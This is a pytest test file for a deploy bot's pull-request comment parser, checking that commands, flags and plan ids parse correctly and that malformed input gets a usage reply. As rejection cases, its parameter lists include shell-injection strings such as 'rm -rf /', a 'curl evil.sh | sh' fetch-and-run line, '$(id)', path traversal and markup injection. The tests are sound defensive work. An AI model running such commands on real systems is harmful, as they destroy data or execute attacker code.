"""Comments: command, reply, or not for us — and never an exception."""

from __future__ import annotations

import pytest

from handlers.comment_parser import HELP, USAGE, Command, Reply, parse_comment


def reply_text(body: str) -> str:
    result = parse_comment(body)
    assert isinstance(result, Reply), result
    return result.text


# --- not for us ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        "",
        "   \n\n  ",
        "LGTM",
        "please run deploybot plan",  # not the first word
        "Deploybot plan",  # case-sensitive
        "DEPLOYBOT plan",
        "deploybots plan",
        "deploybot, plan",
        "deploybot: plan",
        "deploybot.plan",
        "d\u0435ploybot plan",  # Cyrillic е
        "\u0501eploybot plan",  # Cyrillic ԁ
        "ｄeploybot plan",  # full-width d
        "deploy\u200bbot plan",  # zero-width space inside the word
        "> deploybot plan",  # a quote of someone else's command
        "```\ndeploybot plan\n```",
        "@@deploybot plan",
        "@ deploybot plan",
        "great work\ndeploybot apply",  # only the first non-empty line counts
        "atlantis plan",
    ],
)
def test_not_for_us(body: str):
    assert parse_comment(body) is None


def test_non_string_body_is_ignored():
    assert parse_comment(None) is None  # type: ignore[arg-type]
    assert parse_comment(b"deploybot plan") is None  # type: ignore[arg-type]


# --- commands -------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["plan", "apply", "approve", "unlock", "cancel"])
def test_each_command(name: str):
    assert parse_comment(f"deploybot {name}") == Command(name)  # type: ignore[arg-type]


def test_mention_and_surrounding_whitespace():
    assert parse_comment("@deploybot plan") == Command("plan")
    assert parse_comment("\r\n\n   deploybot\tplan  \r\nthanks!\ndeploybot apply") == Command("plan")


def test_flags_short_long_and_equals():
    expected = Command("plan", project="staging", dir="envs/staging", workspace="blue")
    assert parse_comment("deploybot plan -p staging -d envs/staging -w blue") == expected
    assert parse_comment("deploybot plan --project staging --dir envs/staging --workspace blue") == expected
    assert parse_comment("deploybot plan --workspace=blue --project=staging --dir=envs/staging") == expected
    assert parse_comment("deploybot plan -w blue -p 'staging' -d \"envs/staging\"") == expected


def test_dir_is_passed_through_unnormalised():
    assert parse_comment("deploybot apply -d ./staging/") == Command("apply", dir="./staging/")


def test_approve_names_plan_ids():
    assert parse_comment("deploybot approve 0123456789ab fedcba987654") == Command(
        "approve", plan_ids=("0123456789ab", "fedcba987654")
    )
    assert parse_comment("deploybot approve fedcba987654 0123456789ab").plan_ids == (  # type: ignore[union-attr]
        "fedcba987654", "0123456789ab"
    )
    assert parse_comment("@deploybot approve 0123456789ab\nfor the staging plan") == Command(
        "approve", plan_ids=("0123456789ab",)
    )


def test_plan_ids_in_upper_case_are_read_as_lower_case():
    assert parse_comment("deploybot approve 0123456789AB FEDCBA987654") == Command(
        "approve", plan_ids=("0123456789ab", "fedcba987654")
    )


def test_repeated_plan_ids_collapse():
    assert parse_comment("deploybot approve 0123456789ab 0123456789AB fedcba987654 0123456789ab") == Command(
        "approve", plan_ids=("0123456789ab", "fedcba987654")
    )


def test_approve_takes_flags_and_plan_ids_together():
    expected = Command("approve", project="staging", plan_ids=("0123456789ab",))
    assert parse_comment("deploybot approve -p staging 0123456789ab") == expected
    assert parse_comment("deploybot approve 0123456789ab --project=staging") == expected


@pytest.mark.parametrize(
    "body",
    [
        "deploybot approve 0123456789a",  # 11 digits
        "deploybot approve 0123456789abc",  # 13 digits
        "deploybot approve 0123456789ag",  # not hex
        "deploybot approve 0123456789ab 0123456789a",  # one bad id spoils the command
        "deploybot approve 0x23456789ab",
        "deploybot approve 0123456789\uff41b",  # full-width a
        "deploybot approve '0123456789ab '",
        "deploybot approve all",
    ],
)
def test_malformed_plan_ids_get_a_usage_reply(body: str):
    text = reply_text(body)
    assert text.startswith("Not a plan id")
    assert "plan ids are the 12 hex digits shown with each plan" in text
    assert text.endswith(USAGE)


def test_bad_plan_id_is_echoed_only_when_harmless():
    assert reply_text("deploybot approve 0123456789a").startswith("Not a plan id `0123456789a`:")
    assert "@everyone" not in reply_text("deploybot approve @everyone")


@pytest.mark.parametrize("name", ["plan", "apply", "unlock", "cancel"])
def test_plan_ids_belong_to_approve_only(name: str):
    text = reply_text(f"deploybot {name} 0123456789ab")
    assert "Unexpected argument `0123456789ab`." in text
    assert text.endswith(USAGE)


def test_custom_bot_name():
    assert parse_comment("tfbot plan", bot_name="tfbot") == Command("plan")
    assert parse_comment("deploybot plan", bot_name="tfbot") is None
    assert parse_comment("plan", bot_name="") is None


# --- replies ---------------------------------------------------------------------------


def test_help_and_bare_name():
    assert parse_comment("deploybot help") == Reply(HELP)
    assert parse_comment("deploybot help me please") == Reply(HELP)
    assert parse_comment("deploybot") == Reply(USAGE)
    assert parse_comment("@deploybot") == Reply(USAGE)
    assert "deploybot <command> [-p PROJECT] [-d DIR] [-w WORKSPACE]" in USAGE


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("deploybot destroy", "Unknown command `destroy`."),
        ("deploybot Plan", "Unknown command `Plan`."),
        ("deploybot plan; rm -rf /", "Unknown command."),
        ("deploybot plan && curl evil.sh | sh", "Unexpected argument."),
        ("deploybot plan | sh", "Unexpected argument."),
        ("deploybot plan $(id)", "Unexpected argument."),
        ("deploybot plan `id`", "Unexpected argument."),
        ("deploybot plan > /etc/passwd", "Unexpected argument."),
        ("deploybot plan extra", "Unexpected argument `extra`."),
        ("deploybot plan -- -target=x", "Extra Terraform arguments cannot be passed"),
        ("deploybot apply -p staging -- -auto-approve", "Extra Terraform arguments cannot be passed"),
        ("deploybot plan -target=aws_iam_role.x", "Unknown flag `-target=aws_iam_role.x`."),
        ("deploybot plan --var=x", "Unknown flag `--var`."),
        ("deploybot plan -x", "Unknown flag `-x`."),
        ("deploybot plan -p=staging", "Unknown flag `-p=staging`."),
        ("deploybot plan -p", "The flag `-p` needs a value."),
        ("deploybot plan --project=", "The flag `--project` needs a value."),
        ("deploybot plan -p -d staging", "The flag `-p` needs a value."),
        ("deploybot plan -p a -p b", "The flag `-p` may be given only once."),
        ("deploybot plan -p a --project b", "The flag `--project` may be given only once."),
        ("deploybot plan -p 'a b'", "may contain only letters"),
        ("deploybot plan -p 'a;rm'", "may contain only letters"),
        ("deploybot plan -p $HOME", "may contain only letters"),
        ("deploybot plan -w 'prod\u0435'", "may contain only letters"),  # Cyrillic е in a value
        ("deploybot plan -d ../secrets", 'A directory must not contain "..".'),
        ("deploybot plan -d a/../../b", 'must not contain ".."'),
        ("deploybot plan -d a..b", 'must not contain ".."'),
        ("deploybot plan -d /etc", "A directory must be relative"),
        ("deploybot plan -p 'unbalanced", "unbalanced quotes"),
        ('deploybot plan "', "unbalanced quotes"),
        ("deploybot plan\u00a0-p x", "Unknown command."),  # NBSP is not a separator
    ],
)
def test_bad_commands_get_a_reply_with_usage(body: str, message: str):
    text = reply_text(body)
    assert message in text
    assert text.endswith(USAGE)


def test_replies_never_echo_mentions_or_markup():
    for body in ["deploybot @everyone", "deploybot plan [x](http://evil)", "deploybot plan <img src=x>"]:
        text = reply_text(body)
        assert "@everyone" not in text and "evil" not in text and "<img" not in text


def test_very_long_first_line_is_refused():
    assert "too long" in reply_text("deploybot plan -p " + "a" * 20_000)
    # A long line not for us is still ignored, and long text after the command is fine.
    assert parse_comment("x" * 20_000) is None
    assert parse_comment("deploybot plan\n" + "x" * 100_000) == Command("plan")


@pytest.mark.parametrize(
    "body",
    [
        "deploybot plan \x00",
        "deploybot plan -p \udcff",  # lone surrogate
        "deploybot " + "'" * 9999,
        "deploybot " + "\\",
        "deploybot plan -d " + "/" * 5000,
    ],
)
def test_never_raises(body: str):
    assert isinstance(parse_comment(body), (Command, Reply))
